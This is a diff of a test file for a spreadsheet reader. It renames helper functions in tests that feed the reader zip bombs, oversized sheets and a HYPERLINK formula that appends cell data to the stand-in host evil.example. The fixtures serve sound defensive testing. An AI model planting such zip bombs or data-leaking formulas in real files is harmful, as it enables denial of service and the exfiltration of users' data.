@@ -1,13 +1,13 @@
 import { monitorEventLoopDelay } from 'node:perf_hooks';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { main, workbook } from '../../../tests/support/workbook.ts';
+import { mainNamespace, createWorkbook } from '../../../tests/support/workbook.ts';
 import { openSpreadsheets, type Spreadsheets } from './spreadsheets.ts';
 
 let spreadsheets: Spreadsheets;
 beforeAll(async () => {
   spreadsheets = openSpreadsheets(() => {});
   // Starts the worker, so that the time of its start is not measured.
-  await spreadsheets.read(await workbook('<row r="1"><c r="A1"><v>1</v></c></row>'), 10);
+  await spreadsheets.read(await createWorkbook('<row r="1"><c r="A1"><v>1</v></c></row>'), 10);
 });
 afterAll(() => spreadsheets.close());
 
@@ -22,16 +22,16 @@ function understating(archive: Buffer, size: number): Buffer {
 
 const zeros = 60_000_000;
 test.each([
-  ['a zip bomb', () => workbook('', { parts: { 'xl/styles.xml': Buffer.alloc(zeros) } })],
+  ['a zip bomb', () => createWorkbook('', { parts: { 'xl/styles.xml': Buffer.alloc(zeros) } })],
   [
     'a zip bomb that claims to be small',
-    async () => understating(await workbook('', { parts: { 'xl/a.xml': Buffer.alloc(zeros) } }), zeros),
+    async () => understating(await createWorkbook('', { parts: { 'xl/a.xml': Buffer.alloc(zeros) } }), zeros),
   ],
-  ['ten million empty cells', () => workbook(`<row r="1">${'<c/>'.repeat(10_000_000)}</row>`)],
-  ['a cell in the last row and column', () => workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')],
+  ['ten million empty cells', () => createWorkbook(`<row r="1">${'<c/>'.repeat(10_000_000)}</row>`)],
+  ['a cell in the last row and column', () => createWorkbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')],
   [
     'a cell in the last row of a sheet with a prefix',
-    () => workbook("<x:row r = '1048576'><x:c r='A1048576'/></x:row>"),
+    () => createWorkbook("<x:row r = '1048576'><x:c r='A1048576'/></x:row>"),
   ],
 ])('%s is refused within two seconds, without blocking other users [7.3]', async (_, make) => {
   const bytes = await make();
@@ -46,10 +46,10 @@ test.each([
 
 test('a formula is read as its stored value, and a link to another file is not followed [7.3]', async () => {
   const parts = {
-    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${main}"><externalBook/></externalLink>`,
+    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${mainNamespace}"><externalBook/></externalLink>`,
   };
   const rows =
     '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/"&amp;B1,"klick")</f><v>klick</v></c>' +
     '<c r="B1"><f>[1]Tabelle!A1</f><v>7</v></c><c r="C1" t="inlineStr"><is><t>=1+1</t></is></c></row>';
-  expect(await spreadsheets.read(await workbook(rows, { parts }), 10)).toEqual([['klick', '7', '=1+1']]);
+  expect(await spreadsheets.read(await createWorkbook(rows, { parts }), 10)).toEqual([['klick', '7', '=1+1']]);
 });
